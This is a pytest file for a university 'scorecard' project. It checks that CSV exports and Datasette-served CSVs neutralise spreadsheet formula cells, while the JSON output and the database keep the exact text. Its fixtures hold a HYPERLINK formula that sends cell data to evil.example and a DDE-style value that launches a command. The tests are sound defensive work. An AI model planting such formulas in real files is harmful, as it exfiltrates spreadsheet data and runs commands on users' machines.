"""Formula-like quotes are neutralised in every CSV written (scorecard export) or served (Datasette's
CSV), while data/ read back, the JSON and the database keep them exactly."""

import csv
import datetime as dt
import io
import shutil

import pytest
from conftest import DATA, make_datasette

from scorecard import build, datafiles, review, store

TODAY = dt.date(2026, 11, 26)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
ROW = {"unitid": 110662, "stance": "using", "stated_on": "2025-04", "source_urls": "https://newsroom.ucla.edu/x",
       "source_kind": "official_statement", "quote": FORMULA, "recorded_by": "reviewer-test",
       "summary": "@SUM(1+1)*cmd|' /C calc'!A0", "review_status": "approved", "reviewed_by": "reviewer"}


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """data/ copied, one approved formula-like row exported into it, and a build of the result."""
    folder = tmp_path_factory.mktemp("csv")
    data = folder / "data"
    shutil.copytree(DATA, data)
    db = store.open_store(folder / "store.db")
    store.sync_institutions(db, datafiles.load(data, TODAY)[0].institutions)
    (eid,) = store.add_evidence(db, [ROW], origin="submission", today=TODAY)
    review.export(db, data, "reviewer")
    build.build(data, folder / "store.db", folder / "scorecard.db", TODAY)
    return {"data": data, "db": folder / "scorecard.db", "id": eid}


def test_export_writes_formula_cells_with_a_leading_quote(world):
    rows = list(csv.DictReader(io.StringIO((world["data"] / "evidence_reviewed.csv").read_text(encoding="utf-8"))))
    mine = next(r for r in rows if r["id"] == world["id"])
    assert mine["quote"] == "'" + FORMULA and mine["summary"] == "'" + ROW["summary"]


def test_data_read_back_and_the_built_database_keep_the_exact_text(world):
    data, problems = datafiles.load(world["data"], TODAY)
    assert problems == []
    mine = next(r for r in data.evidence if r["id"] == world["id"])
    assert mine["quote"] == FORMULA
    import sqlite3
    conn = sqlite3.connect(world["db"])
    assert conn.execute("select quote from evidence where id = ?", [world["id"]]).fetchone() == (FORMULA,)


@pytest.fixture
async def site(world):
    ds = make_datasette(world["db"])
    await ds.invoke_startup()
    return ds


@pytest.mark.parametrize("suffix", ["/scorecard/evidence.csv?id={id}", "/scorecard/evidence.csv?id={id}&_stream=on",
                                    "/scorecard/-/query.csv?sql=select+quote,id+from+evidence+where+id=:id&id={id}&_dl=1"])
async def test_served_csv_neutralises_formula_cells(site, world, suffix):
    r = await site.client.get(suffix.format(id=world["id"]))
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["quote"], x["id"]) for x in rows] == [("'" + FORMULA, world["id"])]


async def test_served_json_keeps_the_exact_text(site, world):
    r = await site.client.get(f"/scorecard/evidence.json?id={world['id']}&_shape=array")
    assert [x["quote"] for x in r.json()] == [FORMULA]


async def test_served_csv_leaves_negative_numbers_alone(site):
    r = await site.client.get("/scorecard/campuses.csv?slug=university-of-california-los-angeles&_col=longitude")
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    assert row["longitude"].startswith("-118")
